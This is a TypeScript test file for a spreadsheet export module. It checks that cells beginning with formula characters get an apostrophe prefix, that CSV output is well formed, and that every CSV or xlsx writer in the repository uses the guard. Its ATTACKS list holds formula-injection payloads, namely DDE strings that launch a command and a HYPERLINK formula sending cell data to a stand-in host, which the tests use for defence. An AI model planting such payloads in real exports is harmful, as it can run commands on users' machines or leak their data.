import { readdirSync, readFileSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import { csvDocument, isFormulaLike, spreadsheetCell } from './spreadsheet';

const ATTACKS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
  '\t=1+1',
  '\r=1+1',
];

describe('spreadsheetCell', () => {
  it.each(ATTACKS)('writes %j as text with a leading apostrophe', (attack) => {
    expect(isFormulaLike(attack)).toBe(true);
    expect(spreadsheetCell(attack)).toBe(`'${attack}`);
  });

  it('leaves other text, numbers (negative ones too) and empty values as they are', () => {
    expect(spreadsheetCell('Müller-Lüdenscheidt')).toBe('Müller-Lüdenscheidt');
    expect(spreadsheetCell('a=b')).toBe('a=b');
    expect(spreadsheetCell(' =1')).toBe(' =1');
    expect(spreadsheetCell(-5)).toBe(-5);
    expect(spreadsheetCell(0)).toBe(0);
    expect(spreadsheetCell(null)).toBe('');
    expect(spreadsheetCell(undefined)).toBe('');
  });
});

describe('csvDocument', () => {
  it('is UTF-8 with BOM, ;-separated, CRLF, quoting separators, quotes and line breaks', () => {
    expect(
      csvDocument([
        ['name', 'note'],
        ['Anna; Berg', 'sagt "hallo"\nzweite Zeile'],
        [1.5, null],
      ]),
    ).toBe('\uFEFFname;note\r\n"Anna; Berg";"sagt ""hallo""\nzweite Zeile"\r\n1.5;\r\n');
  });

  it('neutralises formula cells before quoting them', () => {
    expect(csvDocument([['=1+1', '@a;b', '-1', -1]])).toBe(`\uFEFF'=1+1;"'@a;b";'-1;-1\r\n`);
    expect(csvDocument([['=HYPERLINK("x")']], ',')).toBe(`\uFEFF"'=HYPERLINK(""x"")"\r\n`);
  });
});

// Every file of the product that hands out a CSV or xlsx file writes its cells through this
// module, so an export added later cannot forget the formula prefix.
const REPO_ROOT = join(__dirname, '..', '..', '..');
const SKIPPED_FOLDERS = new Set(['node_modules', 'dist', '.test-results', 'coverage']);

function sourceFiles(folder: string): string[] {
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    if (SKIPPED_FOLDERS.has(entry.name)) return [];
    const path = join(folder, entry.name);
    if (entry.isDirectory()) return sourceFiles(path);
    return /\.tsx?$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name) && !/\.d\.ts$/.test(entry.name) ? [path] : [];
  });
}

const packageSources = readdirSync(REPO_ROOT, { withFileTypes: true })
  .filter((entry) => entry.isDirectory() && !entry.name.startsWith('.') && !SKIPPED_FOLDERS.has(entry.name))
  .flatMap((entry) => {
    try {
      return sourceFiles(join(REPO_ROOT, entry.name, 'src'));
    } catch {
      return [];
    }
  });

/** A file that offers a spreadsheet for download: it names the CSV or xlsx type where it makes a file or an answer (the API's file answer). */
const isSpreadsheetWriter = (text: string) =>
  /text\/csv|spreadsheetml\.sheet/.test(text) && /new Blob\(|\.header\(|\.type\(|content-disposition|FileAnswer\b/i.test(text);

/** The modules of the same folder a file imports (`from './name'`), as files. */
function siblingModulesOf(file: string, text: string): string[] {
  return [...text.matchAll(/from '\.\/([\w-]+)'/g)].flatMap(([, name]) =>
    ['.ts', '.tsx']
      .map((extension) => join(dirname(file), `${name}${extension}`))
      .filter((candidate) => packageSources.includes(candidate)),
  );
}

describe('every CSV and xlsx export', () => {
  it('finds the product’s sources and its writers', () => {
    expect(packageSources.length).toBeGreaterThan(100);
    expect(packageSources.filter((file) => isSpreadsheetWriter(readFileSync(file, 'utf8'))).length).toBeGreaterThan(0);
  });

  it('writes its cells through csvDocument or spreadsheetCell', () => {
    const unguarded = packageSources
      .filter((file) => {
        const text = readFileSync(file, 'utf8');
        // The cells may be written by a module of its own beside it (a workbook built in a worker thread).
        const written = [text, ...siblingModulesOf(file, text).map((module) => readFileSync(module, 'utf8'))].join('\n');
        return isSpreadsheetWriter(text) && !/\b(csvDocument|spreadsheetCell)\b/.test(written);
      })
      .map((file) => relative(REPO_ROOT, file));
    expect(unguarded).toEqual([]);
  });
});
